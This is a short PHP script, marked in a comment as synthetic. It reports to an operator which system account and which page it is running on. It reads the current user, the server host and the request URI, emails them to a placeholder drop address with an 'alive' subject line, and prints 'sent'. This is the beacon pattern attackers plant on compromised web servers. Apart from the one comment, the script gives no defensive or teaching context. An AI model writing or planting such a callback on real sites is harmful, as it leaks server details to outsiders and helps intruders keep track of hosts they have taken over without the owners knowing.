<?php
// synthetic: tells the operator which account and page it runs on
$who = @get_current_user();
$to = "drop@mail.example.test";
mail($to, "alive " . $who, $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);
echo "sent";
